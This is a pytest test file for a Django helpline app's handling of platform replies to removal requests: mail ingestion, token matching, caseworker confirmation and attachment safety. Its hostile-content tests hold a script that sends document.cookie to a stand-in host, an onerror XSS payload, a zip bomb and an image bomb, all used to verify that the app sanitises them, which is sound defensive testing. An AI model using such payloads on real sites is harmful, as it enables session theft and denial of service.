"""Platform replies: the reply address and thread find the request; every mail is kept; suggestions wait for a
person; the real routes (Dovecot over IMAPS, Mailgun's signed webhook) file them."""

from __future__ import annotations

import hashlib
import hmac
import io
import time
import zipfile

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse
from PIL import Image

from cases.casework.models import AuditRecord
from cases.removals import state
from cases.removals.directory_loader import DirectoryFileError, parse_directory
from cases.removals.models import RemovalRequest, RequestTransition
from cases.removals.replies import services as reply_services
from cases.removals.replies.models import PlatformReply
from cases.removals.replies.tasks import poll_replies
from cases.removals.replies.tokens import reply_address, reply_token
from tests.removals.dovecot import start_dovecot, stop_dovecot
from tests.removals.replies_cast import TELEGRAM_RULES, emailed_request, jpeg_with_gps, reply_mail

pytestmark = pytest.mark.usefixtures("platforms", "helpline")


@pytest.fixture
def sent(caseworker, sends, committed):
    return emailed_request(caseworker, sends, committed, rules=TELEGRAM_RULES)


@pytest.fixture(scope="module")
def dovecot():
    server = start_dovecot()
    yield server
    stop_dovecot(server)


@pytest.fixture
def mailbox(dovecot, settings):
    settings.REPLY_IMAP_URL = dovecot.url
    settings.REPLY_IMAP_CA_FILE = dovecot.ca_file
    return dovecot


def ingest(raw: bytes) -> PlatformReply:
    return reply_services.reply_ingest(raw=raw, route=PlatformReply.Route.WEBHOOK)[0]


# --- the outgoing email --------------------------------------------------------------------------------------


def test_an_emailed_request_carries_a_reply_address_with_its_unguessable_token_and_a_message_id(sent):
    request, message = sent
    assert message.reply_to == [f"requests+{reply_token(request.pk)}@helpline.example"]
    assert len(reply_token(request.pk)) >= 24 and reply_token(request.pk) != reply_token(request.pk + 1)
    assert message.extra_headers["Message-ID"] == request.message_id


# --- the IMAP route, against a real Dovecot over TLS -------------------------------------------------------------


def test_a_reply_delivered_to_the_mailbox_is_on_its_request_after_one_poll_with_the_ticket_picked_out(sent, mailbox):
    request, message = sent
    mailbox.deliver(
        reply_mail(to=message.reply_to[0], body="Hello,\nThe content has been removed.\nTicket # TG-20261206\n")
    )
    assert mailbox.unseen() == 1
    result = poll_replies()
    assert result.startswith("new 1")
    reply = PlatformReply.objects.get(request=request)
    assert reply.match == PlatformReply.Match.TOKEN and reply.route == PlatformReply.Route.IMAP
    assert reply.suggested_status == state.REMOVED and reply.suggested_ticket == "TG-20261206"
    assert "content has been removed" in reply.body
    assert mailbox.unseen() == 0
    request.refresh_from_db()
    assert request.status == state.SENT  # a suggestion: nothing moves without a person


def test_the_same_message_delivered_twice_is_stored_once(sent, mailbox):
    request, message = sent
    raw = reply_mail(to=message.reply_to[0], body="We need more information.")
    mailbox.deliver(raw)
    mailbox.deliver(raw)
    assert poll_replies().startswith("new 1, duplicate 1")
    assert PlatformReply.objects.filter(request=request).count() == 1
    # The same mail through the webhook as well: still one row.
    assert reply_services.reply_ingest(raw=raw, route=PlatformReply.Route.WEBHOOK)[1] is False
    assert PlatformReply.objects.count() == 1


def test_a_wrong_password_for_the_mailbox_is_reported_not_crashed(mailbox, settings):
    settings.REPLY_IMAP_URL = mailbox.url.replace(mailbox.password, "wrong")
    assert poll_replies() == "mailbox refused the poll"


def test_a_mailbox_whose_certificate_is_not_trusted_is_refused(mailbox, settings):
    settings.REPLY_IMAP_CA_FILE = ""  # the system's CAs do not know the test certificate
    assert poll_replies() == "mailbox refused the poll"


# --- matching ------------------------------------------------------------------------------------------------------


def test_a_reply_without_the_token_threads_by_in_reply_to(sent):
    request, _ = sent
    reply = ingest(reply_mail(to="requests@helpline.example", body="Thanks", in_reply_to=request.message_id))
    assert reply.request == request and reply.match == PlatformReply.Match.THREAD


def test_a_forged_token_goes_to_triage_recorded_as_forged_and_moves_nothing(sent):
    request, _ = sent
    forged = f"requests+r{request.pk}t{'0' * 24}@helpline.example"
    reply = ingest(reply_mail(to=forged, body="The content has been removed."))
    assert reply.request is None and reply.match == PlatformReply.Match.FORGED
    assert any("did not verify" in p for p in reply.problems)
    request.refresh_from_db()
    assert request.status == state.SENT and not request.replies.exists()


def test_a_valid_token_for_a_request_that_does_not_exist_goes_to_triage(sent):
    missing = RemovalRequest.objects.order_by("-pk").first().pk + 1000
    reply = ingest(reply_mail(to=reply_address("requests@helpline.example", missing), body="hi"))
    assert reply.request is None and reply.match == PlatformReply.Match.NONE


def test_unmatched_mail_is_listed_for_a_supervisor_audited_and_can_be_filed(sent, supervisor_client, supervisor):
    request, _ = sent
    reply = ingest(reply_mail(to="requests@helpline.example", subject="About RR report", body="It was removed."))
    page = supervisor_client.get(reverse("removals:reply_triage"))
    assert page.status_code == 200 and f'data-reply="{reply.pk}"' in page.content.decode()
    assert AuditRecord.objects.filter(action=AuditRecord.Action.REMOVAL_VIEW, detail__step="reply_triage").exists()
    supervisor_client.post(reverse("removals:reply_action", args=[reply.pk, "file"]), {"request_code": request.code})
    reply.refresh_from_db()
    assert reply.request == request and reply.match == PlatformReply.Match.STAFF


def test_a_caseworker_does_not_see_the_triage_list(caseworker_client):
    assert caseworker_client.get(reverse("removals:reply_triage")).status_code == 403


# --- suggestions and the person who confirms ---------------------------------------------------------------------


def test_the_board_shows_the_reply_and_one_click_confirms_the_suggested_move_audited(
    sent, caseworker_client, caseworker
):
    request, message = sent
    ingest(reply_mail(to=message.reply_to[0], body="The content has been removed. Ticket #TG-55501"))
    reply = PlatformReply.objects.get(request=request)
    board = caseworker_client.get(reverse("removals:case_board", args=[request.case.reference])).content.decode()
    assert f'id="reply-{reply.pk}"' in board and 'data-suggested="removed"' in board and "TG-55501" in board
    caseworker_client.post(reverse("removals:reply_action", args=[reply.pk, "confirm"]), {"from_status": "sent"})
    request.refresh_from_db()
    assert request.status == state.REMOVED and request.ticket_number == "TG-55501"
    move = RequestTransition.objects.filter(request=request).last()
    assert move.actor == caseworker and move.to_status == state.REMOVED and move.ticket_number == "TG-55501"
    assert AuditRecord.objects.filter(detail__step="reply_confirm", object_id=str(request.pk)).exists()
    # A second click (or a second tab) changes nothing more.
    caseworker_client.post(reverse("removals:reply_action", args=[reply.pk, "confirm"]), {"from_status": "removed"})
    assert RequestTransition.objects.filter(request=request, to_status=state.REMOVED).count() == 1


def test_a_dismissed_suggestion_moves_nothing(sent, caseworker_client):
    request, message = sent
    reply = ingest(reply_mail(to=message.reply_to[0], body="This does not violate our terms."))
    assert reply.suggested_status == state.REFUSED
    caseworker_client.post(reverse("removals:reply_action", args=[reply.pk, "dismiss"]))
    request.refresh_from_db()
    reply.refresh_from_db()
    assert request.status == state.SENT and reply.decision == "dismissed"


def test_another_caseworker_cannot_confirm(sent, client, other_caseworker):
    request, message = sent
    reply = ingest(reply_mail(to=message.reply_to[0], body="The content has been removed."))
    client.force_login(other_caseworker)
    response = client.post(reverse("removals:reply_action", args=[reply.pk, "confirm"]), {"from_status": "sent"})
    assert response.status_code == 403
    request.refresh_from_db()
    assert request.status == state.SENT


def test_an_automatic_acknowledgement_records_the_ticket_and_moves_nothing(sent):
    request, message = sent
    reply = ingest(reply_mail(to=message.reply_to[0], body="Thanks for your report. Ticket # TG-777001", auto=True))
    assert reply.suggested_status == state.ACKNOWLEDGED and reply.ticket_recorded
    request.refresh_from_db()
    assert request.ticket_number == "TG-777001" and request.status == state.SENT
    assert not RequestTransition.objects.filter(request=request, to_status=state.ACKNOWLEDGED).exists()


def test_a_loop_of_auto_replies_is_all_stored_and_stops_suggesting(sent):
    request, message = sent
    for n in range(8):
        ingest(reply_mail(to=message.reply_to[0], body=f"Thanks for your report ({n}).", auto=True))
    replies = list(PlatformReply.objects.filter(request=request).order_by("id"))
    assert len(replies) == 8
    assert all(r.suggested_status == state.ACKNOWLEDGED for r in replies[:5])
    assert all(r.suggested_status == "" and any("Many automatic" in p for p in r.problems) for r in replies[5:])
    request.refresh_from_db()
    assert request.status == state.SENT


# --- hostile content -------------------------------------------------------------------------------------------


def test_an_html_only_body_with_scripts_is_kept_as_plain_text_without_them(sent, caseworker_client):
    request, message = sent
    html = (
        "<html><head><script>fetch('https://evil.example/'+document.cookie)</script></head>"
        "<body><p>Your content has been removed.</p><img src=x onerror=alert(1)><script>alert(2)</script></body></html>"
    )
    reply = ingest(reply_mail(to=message.reply_to[0], html=html))
    assert "Your content has been removed." in reply.body
    assert "script" not in reply.body and "evil.example" not in reply.body and "onerror" not in reply.body
    assert any("only an HTML body" in p for p in reply.problems)
    board = caseworker_client.get(reverse("removals:case_board", args=[request.case.reference])).content.decode()
    assert "evil.example" not in board


def test_a_50_mb_attachment_is_not_kept_but_the_reply_and_the_files_hash_are(sent):
    request, message = sent
    big = b"\0" * (50 * 1024 * 1024)
    reply = ingest(
        reply_mail(to=message.reply_to[0], body="see attached", attachments=[(big, "application/pdf", "a.pdf")])
    )
    attachment = reply.attachments.get()
    assert not attachment.file and "Larger than 10 MB" in attachment.refused
    assert attachment.sha256 == hashlib.sha256(big).hexdigest() and attachment.size == len(big)
    assert reply.request == request and "see attached" in reply.body


def test_a_zip_bomb_is_not_opened_nor_kept(sent):
    _, message = sent
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.bin", b"\0" * (200 * 1024 * 1024))
    bomb = buffer.getvalue()
    assert len(bomb) < 1024 * 1024
    reply = ingest(reply_mail(to=message.reply_to[0], body="x", attachments=[(bomb, "application/zip", "b.zip")]))
    attachment = reply.attachments.get()
    assert not attachment.file and "not kept" in attachment.refused
    assert attachment.size == len(bomb)


def test_an_image_bomb_is_refused_with_a_record(sent):
    _, message = sent
    buffer = io.BytesIO()
    Image.new("1", (20000, 20000)).save(buffer, format="PNG")  # 400 megapixels in a few kilobytes
    reply = ingest(
        reply_mail(to=message.reply_to[0], body="x", attachments=[(buffer.getvalue(), "image/png", "i.png")])
    )
    attachment = reply.attachments.get()
    assert not attachment.file and "too large" in attachment.refused


def test_an_image_attachment_is_kept_privately_reencoded_without_its_metadata(sent):
    _, message = sent
    original = jpeg_with_gps()
    assert b"PhoneMaker" in original and b"secret comment" in original
    reply = ingest(reply_mail(to=message.reply_to[0], body="x", attachments=[(original, "image/jpeg", "p.jpg")]))
    attachment = reply.attachments.get()
    with default_storage.open(attachment.file.name) as stored:
        data = stored.read()
    assert b"PhoneMaker" not in data and b"secret comment" not in data
    assert not Image.open(io.BytesIO(data)).getexif()
    assert attachment.stored_sha256 == hashlib.sha256(data).hexdigest() != attachment.sha256
    assert "reply-image" in attachment.file.name and "p.jpg" not in attachment.file.name


# --- the webhook route: Mailgun's signed inbound payload -------------------------------------------------------------

MAILGUN_KEY = "key-test-mailgun-signing-0123456789"


def _mailgun_post(client, raw: bytes, *, key: str = MAILGUN_KEY, timestamp: int | None = None):
    timestamp = str(timestamp or int(time.time()))
    token = "a" * 50
    signature = hmac.new(key.encode(), (timestamp + token).encode(), hashlib.sha256).hexdigest()
    return client.post(
        reverse("inbound_mailgun"),
        {"timestamp": timestamp, "token": token, "signature": signature, "body-mime": raw.decode()},
    )


def test_a_signed_mailgun_inbound_webhook_files_the_reply(sent, client, settings):
    settings.ANYMAIL = {"MAILGUN_WEBHOOK_SIGNING_KEY": MAILGUN_KEY}
    request, message = sent
    response = _mailgun_post(client, reply_mail(to=message.reply_to[0], body="The content has been removed."))
    assert response.status_code == 200
    reply = PlatformReply.objects.get()
    assert reply.request == request and reply.route == PlatformReply.Route.WEBHOOK


def test_a_mailgun_webhook_with_a_bad_signature_is_refused_and_stores_nothing(sent, client, settings):
    settings.ANYMAIL = {"MAILGUN_WEBHOOK_SIGNING_KEY": MAILGUN_KEY}
    _, message = sent
    response = _mailgun_post(client, reply_mail(to=message.reply_to[0], body="removed"), key="key-forged")
    assert response.status_code == 400
    assert not PlatformReply.objects.exists()


def test_the_webhook_is_absent_when_no_signing_key_is_set(client, settings):
    settings.ANYMAIL = {"MAILGUN_WEBHOOK_SIGNING_KEY": ""}
    assert client.post(reverse("inbound_mailgun"), {"body-mime": "x"}).status_code == 404
    assert not PlatformReply.objects.exists()


# --- the rules in the directory file ---------------------------------------------------------------------------------


def _directory_with(rules) -> bytes:
    import yaml

    from cases.removals.directory_loader import DIRECTORY_FILE

    data = yaml.safe_load(DIRECTORY_FILE.read_bytes())
    data["platforms"][0]["reply_rules"] = rules
    return yaml.safe_dump(data).encode()


# The tests' rules are constructed (tests/removals/replies_cast.py), not any platform's wording; the file takes them
# only with a source and the day it was read.
SOURCED = {**TELEGRAM_RULES, "source_url": "https://example.org/constructed-for-tests", "last_verified": "2026-12-06"}


def test_the_directory_file_takes_reply_rules_and_refuses_a_bad_pattern():
    parsed = parse_directory(_directory_with(SOURCED))
    assert parsed.platforms[0].values["reply_rules"]["ticket"] == TELEGRAM_RULES["ticket"]
    with pytest.raises(DirectoryFileError, match="not a valid regular expression"):
        parse_directory(_directory_with({**SOURCED, "ticket": "([A-Z"}))
    with pytest.raises(DirectoryFileError, match="exactly one group"):
        parse_directory(_directory_with({**SOURCED, "ticket": "TG-\\d+"}))
    with pytest.raises(DirectoryFileError, match="unknown field 'removd'"):
        parse_directory(_directory_with({"removd": ["x"]}))


def test_reply_rules_without_the_page_that_shows_the_wording_and_its_date_are_refused():
    with pytest.raises(DirectoryFileError, match="needs 'source_url'"):
        parse_directory(_directory_with(TELEGRAM_RULES))
    with pytest.raises(DirectoryFileError, match="needs 'last_verified'"):
        parse_directory(_directory_with({**TELEGRAM_RULES, "source_url": "https://example.org/page"}))
    with pytest.raises(DirectoryFileError, match="needs 'source_url'"):
        parse_directory(_directory_with({**SOURCED, "source_url": "http://example.org/page"}))


def test_every_platform_of_the_shipped_file_without_reply_rules_is_listed_as_not_confirmed():
    from cases.removals.directory_loader import DIRECTORY_FILE, read_directory_file

    text = DIRECTORY_FILE.read_text(encoding="utf-8")
    block = text[text.index("# Reply rules NOT CONFIRMED") : text.index("\nversion:")]
    for platform in read_directory_file().platforms:
        rules = platform.values["reply_rules"]
        if rules:
            assert rules["source_url"].startswith("https://") and rules["last_verified"]
        else:
            slug = platform.slug
            assert slug in block or (slug.startswith("dsc-") and "dsc-*" in block), slug


def test_without_rules_of_its_own_a_platforms_auto_acknowledgement_moves_nothing_and_records_no_ticket(
    caseworker, sends, committed
):
    request, message = emailed_request(caseworker, sends, committed)  # Telegram, as the shipped file has it
    assert not request.platform.reply_rules
    reply = ingest(reply_mail(to=message.reply_to[0], body="We received your report. Ref 12345.", auto=True))
    assert reply.suggested_status == state.ACKNOWLEDGED and reply.suggested_ticket == ""
    assert not reply.ticket_recorded
    request.refresh_from_db()
    assert request.status == state.SENT and request.ticket_number == ""


def test_erasing_the_case_blanks_its_replies_and_deletes_their_files(sent, django_capture_on_commit_callbacks):
    from cases.services import case_erase

    request, message = sent
    reply = ingest(
        reply_mail(
            to=message.reply_to[0], body="Victim Name here", attachments=[(jpeg_with_gps(), "image/jpeg", "p.jpg")]
        )
    )
    name = reply.attachments.get().file.name
    assert default_storage.exists(name)
    with django_capture_on_commit_callbacks(execute=True):
        case_erase(case=request.case)
    reply.refresh_from_db()
    assert reply.body == "" and reply.sender == "" and reply.subject == ""
    assert not reply.attachments.get().file and not default_storage.exists(name)
